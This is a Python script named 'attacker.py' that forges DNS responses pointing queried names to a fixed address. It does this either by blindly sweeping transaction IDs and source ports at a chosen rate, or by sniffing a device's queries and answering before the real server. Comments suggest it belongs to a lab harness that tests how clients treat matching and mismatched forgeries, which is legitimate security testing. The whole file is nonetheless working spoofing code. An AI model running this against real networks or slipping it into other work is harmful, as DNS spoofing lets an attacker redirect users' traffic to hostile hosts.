"""Forges answers to somebody's questions, which lead to 198.51.100.66.

usage: python3 attacker.py guess SERVER             does not see the questions: sends in the name of SERVER, as told on standard input
       python3 attacker.py watch DEVICE STRANGER    sees the frames of a device, and answers questions before their server does

Guessing, each line is a sweep: `ids CLIENT PORT NAME RATE COUNT` tries COUNT ids at one port, `ports CLIENT ID NAME RATE COUNT` tries COUNT
ports with one id, RATE packets a second; 0 is as fast as it goes. The answer is `sent COUNT FIRST LAST`, times in seconds since 1970.
Watching, the first label of a question says, up to a hyphen, what is forged: `source` comes from STRANGER, `id` has another id, `port` goes to another
port, `question` answers another name, `fits` has nothing wrong with it. Other questions are left alone.
"""
import random
import socket
import struct
import sys
import time

from scapy.all import DNS, DNSQR, DNSRR, IP, UDP, Ether, raw

LIE = "198.51.100.66"
# Those a client of the lab never uses, so that no guess is right by chance: a guess that is right is an answer that fits.
GUESSED_IDS = range(0x0000, 0x8000)
GUESSED_PORTS = range(10000, 32000)


def forge(source, client, port, identity, name):
    said = DNS(id=identity, qr=1, rd=1, ra=1, qd=DNSQR(qname=name), an=DNSRR(rrname=name, ttl=86400, rdata=LIE))
    return IP(src=source, dst=client) / UDP(sport=53, dport=port) / said


def sweep(server, what, client, fixed, name, rate, count):
    port, identity = (fixed, 0) if what == "ids" else (0, fixed)
    template = forge(server, client, port, identity, name)
    template[UDP].chksum = 0  # none, which IPv4 allows: each packet differs from the template in two octets
    packet = bytearray(raw(template))
    at = 28 if what == "ids" else 22
    choices = GUESSED_IDS if what == "ids" else GUESSED_PORTS
    order = random.sample(choices, min(count, len(choices)))
    first = time.time()
    began = time.monotonic()
    for number in range(count):
        packet[at:at + 2] = struct.pack("!H", order[number % len(order)])
        while rate and time.monotonic() - began < number / rate:
            wait = number / rate - (time.monotonic() - began)
            if wait > 0.0002:
                time.sleep(wait - 0.0001)
        out.sendto(packet, (client, 0))
    print("sent", count, f"{first:.6f}", f"{time.time():.6f}", flush=True)


def guess(server):
    global out
    out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    out.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
    print("ready", flush=True)
    for line in sys.stdin:
        what, client, fixed, name, rate, count = line.split()
        sweep(server, what, client, int(fixed), name, int(rate), int(count))


def watch(device, stranger):
    tap = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
    tap.bind((device, 3))
    print("ready", flush=True)
    while True:
        frame, about = tap.recvfrom(65535)
        # What the workload sends comes in at the node's end of its device.
        if about[2] == socket.PACKET_OUTGOING or frame[12:14] != b"\x08\0" or frame[23] != 17 or frame[36:38] != b"\0\x35":
            continue
        seen = Ether(frame)
        name = seen[DNS].qd[0].qname.decode("latin1") if DNS in seen else ""
        lie = name.split("-")[0]
        if lie not in ("source", "id", "port", "question", "fits"):
            continue
        forged = Ether(src=seen.dst, dst=seen.src) / forge(
            stranger if lie == "source" else seen[IP].dst, seen[IP].src, seen[UDP].sport ^ (lie == "port"),
            seen[DNS].id ^ (lie == "id"), "other." + name if lie == "question" else name)
        sent = time.time()
        tap.send(raw(forged))
        print("sent", lie, f"{sent:.6f}", flush=True)


{"guess": guess, "watch": watch}[sys.argv[1]](*sys.argv[2:])
